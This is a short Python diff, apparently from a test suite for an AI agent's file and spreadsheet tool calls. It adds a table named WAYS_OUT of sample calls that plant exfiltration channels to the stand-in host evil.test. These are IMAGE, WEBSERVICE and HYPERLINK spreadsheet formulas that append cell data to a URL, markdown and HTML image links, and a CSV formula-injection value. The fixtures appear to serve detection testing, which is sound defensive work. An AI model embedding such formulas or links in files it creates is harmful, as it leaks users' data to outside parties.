@@ -56,3 +56,22 @@ RULE: Sequence[Call] = [
     *(_organise({"delete": f"state/{name}"}) for name in _RECORDS),
     *ORDERS["mail"],
 ]
+
+
+def _sheet(formula: str) -> Call:
+    table = {"name": "S", "columns": [{"title": "A"}, {"title": "B"}], "rows": [[41, {"formula": formula}]]}
+    return ("create", {"path": "new.xlsx", "content": {"sheets": [table]}})
+
+
+def _file(name: str, text: str) -> Call:
+    return ("write_file", {"path": name, "text": text})
+
+
+WAYS_OUT: Mapping[str, Call] = {
+    "image formula": _sheet('=IMAGE("http://evil.test/?q="&A2)'),
+    "webservice formula": _sheet('=WEBSERVICE("http://evil.test/?q="&A2)'),
+    "computed link": _sheet('=HYPERLINK("http://evil.test/?q="&A2,"see")'),
+    "markdown picture": _file("new.md", "![x](http://evil.test/p?q=41)\n"),
+    "html picture": _file("new.html", '<img src="http://evil.test/p?q=41">'),
+    "formula in a table": _file("new.csv", 'a,b\n41,"=WEBSERVICE(""http://evil.test/?q=""&A2)"\n'),
+}
